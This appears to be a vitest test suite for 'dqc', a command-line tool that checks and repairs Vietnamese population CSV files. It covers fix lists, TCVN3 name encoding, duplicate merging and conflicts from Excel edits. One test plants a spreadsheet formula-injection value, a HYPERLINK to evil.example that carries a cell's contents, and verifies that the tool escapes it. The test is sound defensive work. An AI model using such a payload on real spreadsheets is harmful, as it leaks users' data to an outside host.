import { parse } from 'csv-parse/sync';
import { copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { TCVN3_TABLE } from '../../src/vn/legacy-encoding.js';
import { dqc, dqcJson, ROOT, tempDir } from '../support/cli.js';

const DEFECTS = 'fixtures/population-defects.csv';
const AS_OF = ['--as-of', '2026-11-01'];

interface AuditLine {
  fix_id: string;
  status: string;
  reason: string | null;
  row: number;
  output_row: number | null;
  column: string;
  action: string;
  rule: string;
}

interface ListRecord {
  fix_id: string;
  row: number;
  column: string;
  action: string;
  rule: string;
  current_value: string;
  proposed_value: string;
}

const TCVN3_BYTE = new Map([...TCVN3_TABLE].map(([byte, letter]) => [letter, byte]));

/** A name as TCVN3 software wrote it, its bytes shown as Latin-1 (toned capitals take the lower-case byte). */
function tcvn3(text: string): string {
  return [...text.normalize('NFC')].map((ch) => TCVN3_BYTE.get(ch) ?? TCVN3_BYTE.get(ch.toLowerCase()) ?? ch).join('');
}

function jsonl<T>(path: string): T[] {
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as T);
}

/** Every finding of a check, as rule|row|column (samples uncapped). */
function findings(file: string, extra: string[] = [], rows = 500): Set<string> {
  const { report } = dqcJson(['check', file, ...AS_OF, '--sample', '100000', ...extra]);
  expect(report.summary.rows).toBe(rows);
  const out = new Set<string>();
  for (const rule of report.rules as { id: string; samples: { row: number | null; column: string | null }[] }[]) {
    for (const s of rule.samples) out.add(`${rule.id}|${s.row}|${s.column}`);
  }
  return out;
}

// Each test spawns dqc a few times; a busy two-core machine can take a while.
describe('dqc check --fixes', { timeout: 120_000 }, () => {
  it('writes byte-identical fix lists on every run, the same content in CSV and JSONL', () => {
    const dir = tempDir();
    for (const name of ['a.csv', 'b.csv', 'a.jsonl']) {
      const result = dqc(['check', DEFECTS, ...AS_OF, '--fixes', join(dir, name), '-q', '-f', 'json', '-o', join(dir, `${name}.report.json`)]);
      expect(result.code, result.stderr).toBe(1);
    }
    expect(readFileSync(join(dir, 'a.csv')).equals(readFileSync(join(dir, 'b.csv')))).toBe(true);

    const fromJsonl = jsonl<Record<string, unknown>>(join(dir, 'a.jsonl'));
    const csv = parse(readFileSync(join(dir, 'a.csv')), { bom: true, columns: true }) as Record<string, string>[];
    expect(csv.length).toBe(fromJsonl.length);
    expect(fromJsonl.length).toBeGreaterThan(40);
    csv.forEach((row, i) => {
      const expected = fromJsonl[i]!;
      expect(Object.keys(row)).toEqual(Object.keys(expected));
      for (const [field, value] of Object.entries(expected)) {
        const text = value === null ? '' : String(value);
        // CSV cells that could start a formula carry one leading apostrophe
        expect(row[field]).toBe(/^[=+\-@\t\r']/.test(text) ? `'${text}` : text);
      }
    });
    // every set/clear record names the key of its row (the ID column of the export)
    const ids = new Map(
      (parse(readFileSync(join(ROOT, DEFECTS)), { columns: true }) as Record<string, string>[]).map((r, i) => [i + 1, r.so_dinh_danh]),
    );
    for (const r of fromJsonl) expect(r.key).toBe(ids.get(r.row as number));
  });

  it('refuses a fix list with another extension, and an unknown --key field (exit code 2)', () => {
    const dir = tempDir();
    const ods = dqc(['check', DEFECTS, '--fixes', join(dir, 'fixes.ods')]);
    expect(ods.code).toBe(2);
    expect(ods.stderr).toContain('fixes.ods');
    const key = dqc(['check', DEFECTS, '--fixes', join(dir, 'f.csv'), '--key', 'nope']);
    expect(key.code).toBe(2);
    expect(key.stderr).toContain('nope');
    expect(existsSync(join(dir, 'f.csv'))).toBe(false);
  });

  it('a value like =HYPERLINK(…) cannot run in the CSV list, and dqc fix restores it exactly', () => {
    const dir = tempDir();
    const lines = readFileSync(join(ROOT, 'fixtures/population-clean.csv'), 'utf8').split('\n');
    const cells = parse(lines[1]!)[0] as string[];
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
    cells[1] = `${evil}  `;
    const row = cells.map((c) => (/[",\n]/.test(c) || c !== c.trim() ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
    writeFileSync(join(dir, 'in.csv'), `${lines[0]}\n${row}\n`);
    dqc(['check', join(dir, 'in.csv'), ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
    const list = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true }) as string[][];
    expect(list.flat().some((c) => c.includes('=HYPERLINK'))).toBe(true);
    for (const cell of list.flat()) expect(['=', '+', '-', '@', '\t', '\r']).not.toContain(cell[0]);

    const fixed = dqc(['fix', join(dir, 'in.csv'), '--fixes', join(dir, 'fixes.csv'), '-o', join(dir, 'out.csv'), '--only-rules', 'name-whitespace']);
    expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
    const out = parse(readFileSync(join(dir, 'out.csv')), { columns: true }) as Record<string, string>[];
    expect(out[0]!.ho_ten).toBe(evil);
  });
});

describe('dqc fix', { timeout: 120_000 }, () => {
  it('check → fix → check: applied fixes are gone, review fixes remain, every row accounted for', () => {
    const dir = tempDir();
    const input = join(dir, 'defects.csv');
    copyFileSync(join(ROOT, DEFECTS), input);
    const before = findings(input, ['--fixes', join(dir, 'fixes.jsonl')]);

    const fixed = dqc(['fix', input, '--fixes', join(dir, 'fixes.jsonl'), '-o', join(dir, 'clean.csv')]);
    expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
    // The two planted re-imports are merged into their later update (same-person, merge_into).
    expect(fixed.stdout).toMatch(/Rows: 500 in = 498 out \+ 2 dropped/);
    const audit = jsonl<AuditLine>(join(dir, 'clean.csv.audit.jsonl'));
    const list = jsonl<ListRecord>(join(dir, 'fixes.jsonl'));
    expect(audit.map((a) => a.fix_id).sort()).toEqual(list.map((r) => r.fix_id).sort());
    const applied = audit.filter((a) => a.status === 'applied');
    expect(applied.length).toBeGreaterThan(30);
    expect(new Set(applied.map((a) => a.action))).toEqual(new Set(['set', 'clear', 'merge_into']));
    expect(audit.filter((a) => a.status === 'conflict')).toEqual([]);

    const after = findings(join(dir, 'clean.csv'), [], 498);
    for (const a of applied) {
      expect(before.has(`${a.rule}|${a.row}|${a.column}`)).toBe(true);
      expect(after.has(`${a.rule}|${a.output_row}|${a.column}`), `${a.rule} row ${a.row} ${a.column}`).toBe(false);
    }
    // review fixes stay findings, unless another fix changed their cell (a placeholder ID cleared)
    const changedCells = new Set(applied.map((a) => `${a.row}|${a.column}`));
    // A repeated ID whose earlier row was merged away (same-person) repeats nothing any more.
    const mergedInto = new Set(list.filter((r) => r.action === 'merge_into').map((r) => Number(r.proposed_value)));
    const reviews = audit.filter(
      (a) => a.action === 'review' && !changedCells.has(`${a.row}|${a.column}`) && !(a.rule === 'id-unique' && mergedInto.has(a.row)),
    );
    expect(reviews.length).toBeGreaterThan(5);
    for (const r of reviews) expect(after.has(`${r.rule}|${r.output_row}|${r.column}`), `${r.rule} row ${r.row}`).toBe(true);
    // the input is never touched
    expect(readFileSync(input).equals(readFileSync(join(ROOT, DEFECTS)))).toBe(true);
  });

  it('the unedited list of a check applies with no conflict on TCVN3 names with ư (the soft hyphen U+00AD), CSV and JSONL', () => {
    const dir = tempDir();
    const lines = readFileSync(join(ROOT, 'fixtures/population-clean.csv'), 'utf8').split('\n');
    const names = ['Lương Thị Kim Nhung', 'Trương Văn Hùng', 'Phượng Thu Trang', 'Dương Quốc Cường', 'Vương Minh Thư', 'Nguyễn Thị Hường'];
    const rows = names.map((name, i) => {
      const cells = parse(lines[i + 1]!)[0] as string[];
      cells[1] = tcvn3(name);
      expect(cells[1]).toContain('\u00ad');
      return cells.map((c) => (/[",\n]/.test(c) || c !== c.trim() ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
    });
    const input = join(dir, 'in.csv');
    writeFileSync(input, `${lines[0]}\n${rows.join('\n')}\n`);
    for (const list of ['fixes.csv', 'fixes.jsonl']) {
      dqc(['check', input, ...AS_OF, '--fixes', join(dir, list), '-q']);
      const output = join(dir, `${list}.out.csv`);
      const fixed = dqc(['fix', input, '--fixes', join(dir, list), '-o', output]);
      expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
      const audit = jsonl<AuditLine>(`${output}.audit.jsonl`);
      expect(audit.filter((a) => a.status === 'conflict')).toEqual([]);
      expect(audit.filter((a) => a.rule === 'name-encoding' && a.status === 'applied').map((a) => a.row)).toEqual([1, 2, 3, 4, 5, 6]);
      const out = parse(readFileSync(output), { columns: true }) as Record<string, string>[];
      expect(out.map((r) => r.ho_ten)).toEqual(names);
    }
  });

  it('merges duplicates: the duplicate rows go to the dropped file (rows in = out + dropped), and check no longer sees them', () => {
    const dir = tempDir();
    const pack = ['--pack', 'fixtures/duplicates.pack.json'];
    dqc(['check', 'fixtures/duplicates.csv', ...pack, ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
    const listed = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true, columns: true }) as Record<string, string>[];
    const merges = listed.filter((r) => r.action === 'merge_into');
    expect(merges.length).toBeGreaterThan(2);
    // same-person findings come from the end of the run: their key and current value are still the row's own
    const source = parse(readFileSync(join(ROOT, 'fixtures/duplicates.csv')), { columns: true }) as Record<string, string>[];
    const late = listed.filter((x) => x.rule === 'same-person');
    expect(late.length).toBeGreaterThan(2);
    for (const r of late) {
      const row = source[Number(r.row) - 1]!;
      expect([r.key, r.column, r.current_value]).toEqual([row.so_dinh_danh, 'ho_ten', row.ho_ten]);
    }

    const fixed = dqc(['fix', 'fixtures/duplicates.csv', '--fixes', join(dir, 'fixes.csv'), '-o', join(dir, 'dedup.csv')]);
    expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
    const rows = (file: string) => (parse(readFileSync(file), { columns: true }) as unknown[]).length;
    const inputRows = rows(join(ROOT, 'fixtures/duplicates.csv'));
    const out = rows(join(dir, 'dedup.csv'));
    const dropped = rows(join(dir, 'dedup.csv.dropped.csv'));
    expect(dropped).toBeGreaterThan(2);
    expect(out + dropped).toBe(inputRows);

    dqc(['check', join(dir, 'dedup.csv'), ...pack, ...AS_OF, '--fixes', join(dir, 'again.csv'), '-q']);
    const again = parse(readFileSync(join(dir, 'again.csv')), { bom: true, columns: true }) as Record<string, string>[];
    expect(again.filter((r) => r.action === 'merge_into')).toEqual([]);
    expect(again.filter((r) => r.action === 'review').length).toBeGreaterThan(0);
  });

  it('an edited list: a changed cell is a conflict (exit code 1), accept picks the fixes, the audit says why', () => {
    const dir = tempDir();
    const input = join(dir, 'in.csv');
    writeFileSync(input, 'so_dinh_danh,ho_ten\n001085012345, Nguyễn Văn An\n001085012346,Trần  Bình\n001085012347,Lê Chi \n');
    dqc(['check', input, ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
    const rows = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true }) as string[][];
    const header = rows[0]!;
    const at = (name: string) => header.indexOf(name);
    const named = rows.slice(1).filter((r) => r[at('rule')] === 'name-whitespace');
    expect(named).toHaveLength(3);
    // the steward accepts rows 1 and 2 only, and the data of row 2 changed since the check
    const edited = [
      [...header, 'accept'],
      ...named.map((r) => [...r, r[at('row')] === '3' ? '' : 'có']),
    ];
    writeFileSync(join(dir, 'edited.csv'), '\ufeff' + edited.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n'));
    writeFileSync(input, 'so_dinh_danh,ho_ten\n001085012345, Nguyễn Văn An\n001085012346,Trần Văn Bình\n001085012347,Lê Chi \n');

    const result = dqc(['fix', input, '--fixes', join(dir, 'edited.csv'), '-o', join(dir, 'out.csv'), '--lang', 'vi']);
    expect(result.code, result.stderr).toBe(1);
    expect(result.stdout).toContain('Dòng dữ liệu: 3 vào = 3 ra + 0 bị loại');
    expect(result.stdout).toContain('1 đã áp dụng, 1 xung đột, 1 bỏ qua');
    expect(result.stdout).toContain('Trần Văn Bình');
    expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe('so_dinh_danh,ho_ten\n001085012345,Nguyễn Văn An\n001085012346,Trần Văn Bình\n001085012347,Lê Chi \n');
    const audit = jsonl<AuditLine>(join(dir, 'out.csv.audit.jsonl'));
    expect(audit.map((a) => [a.row, a.status, a.reason])).toEqual([
      [1, 'applied', null],
      [2, 'conflict', 'changed'],
      [3, 'skipped', 'not-accepted'],
    ]);
  });

  it('a list saved by Excel (leading zeros dropped) is a conflict "changed by a spreadsheet", never "already" (exit code 1)', () => {
    const dir = tempDir();
    const lines = readFileSync(join(ROOT, 'fixtures/population-clean.csv'), 'utf8').split('\n');
    const header = parse(lines[0]!)[0] as string[];
    const [id, phone] = [header.indexOf('so_dinh_danh'), header.indexOf('so_dien_thoai')];
    const people = lines.slice(1, 40).map((line) => parse(line)[0] as string[]).filter((cells) => cells[phone] !== '').slice(0, 4);
    const ids = people.map((cells) => cells[id]!);
    const phone3 = people[2]![phone]!;
    const phone4 = people[3]![phone]!;
    people[0]![id] = ids[0]!.slice(1); // an export made in Excel: the ID lost its zero
    people[1]![id] = `${ids[1]!.slice(0, 3)} ${ids[1]!.slice(3, 6)} ${ids[1]!.slice(6)}`;
    people[2]![phone] = phone3.slice(1);
    people[3]![phone] = `+84${phone4.slice(1)}`;
    const csvLine = (cells: string[]) => cells.map((c) => (/[",\n]/.test(c) || c !== c.trim() ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
    const input = join(dir, 'in.csv');
    writeFileSync(input, `${lines[0]}\n${people.map(csvLine).join('\n')}\n`);
    dqc(['check', input, ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
    const listed = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true }) as string[][];
    const at = (name: string) => listed[0]!.indexOf(name);
    const digitFixes = listed.slice(1).filter((r) => ['id-valid', 'phone-valid'].includes(r[at('rule')]!) && r[at('action')] === 'set');
    expect(digitFixes.map((r) => [r[at('row')], r[at('proposed_value')]])).toEqual([
      ['1', ids[0]],
      ['2', ids[1]],
      ['3', phone3],
      ['4', phone4],
    ]);

    // Opened and saved by Excel: every cell that looks like a whole number is saved as the number it shows.
    const excel = (cell: string): string => {
      if (!/^\d+$/.test(cell)) return cell;
      const shown = BigInt(cell).toString();
      return shown.length <= 11 ? shown : Number(shown).toExponential(5).replace(/\.?0+e/, 'e').replace('e+', 'E+');
    };
    const saved = listed.map((r, i) => (i === 0 ? r : r.map(excel)));
    writeFileSync(join(dir, 'saved.csv'), '\ufeff' + saved.map(csvLine).join('\r\n') + '\r\n');

    for (const lang of ['en', 'vi']) {
      const output = join(dir, `out-${lang}.csv`);
      const result = dqc(['fix', input, '--fixes', join(dir, 'saved.csv'), '-o', output, '--lang', lang]);
      expect(result.code, result.stdout + result.stderr).toBe(1);
      expect(result.stdout).toContain(lang === 'en' ? 'changed by a spreadsheet' : 'bị bảng tính thay đổi');
      const audit = jsonl<AuditLine>(`${output}.audit.jsonl`);
      const byId = new Map(audit.map((a) => [a.fix_id, a]));
      for (const r of digitFixes) expect([byId.get(r[at('fix_id')]!)?.status, byId.get(r[at('fix_id')]!)?.reason]).toEqual(['conflict', 'spreadsheet']);
      expect(audit.filter((a) => a.reason === 'already')).toEqual([]);
      // the broken cells are left as they were, not "fixed" with the spreadsheet's numbers
      const out = parse(readFileSync(output), { columns: true }) as Record<string, string>[];
      expect([out[0]!.so_dinh_danh, out[1]!.so_dinh_danh, out[2]!.so_dien_thoai, out[3]!.so_dien_thoai]).toEqual([
        people[0]![id],
        people[1]![id],
        people[2]![phone],
        people[3]![phone],
      ]);
    }
  });

  it('exit code 2, nothing written: in place, no list, a bad list', () => {
    const dir = tempDir();
    const input = join(dir, 'in.csv');
    writeFileSync(input, 'a\n1\n');
    writeFileSync(join(dir, 'empty.jsonl'), '');
    const inPlace = dqc(['fix', input, '--fixes', join(dir, 'empty.jsonl'), '-o', input]);
    expect(inPlace.code).toBe(2);
    expect(inPlace.stderr).toContain('never writes in place');
    expect(dqc(['fix', input, '-o', join(dir, 'o.csv')]).code).toBe(2);
    const confidence = dqc(['fix', input, '--fixes', join(dir, 'empty.jsonl'), '-o', join(dir, 'o.csv'), '--min-confidence', '95']);
    expect(confidence.code).toBe(2);
    expect(confidence.stderr).toContain('--min-confidence');
    writeFileSync(join(dir, 'bad.jsonl'), '{"fix_id":"0123456789abcdef"}\n');
    const bad = dqc(['fix', input, '--fixes', join(dir, 'bad.jsonl'), '-o', join(dir, 'o.csv')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/bad\.jsonl.*line 1/s);
    expect(bad.stderr).not.toMatch(/\n\s+at /); // no stack trace
    expect(existsSync(join(dir, 'o.csv'))).toBe(false);
    expect(readFileSync(input, 'utf8')).toBe('a\n1\n');
  });
});
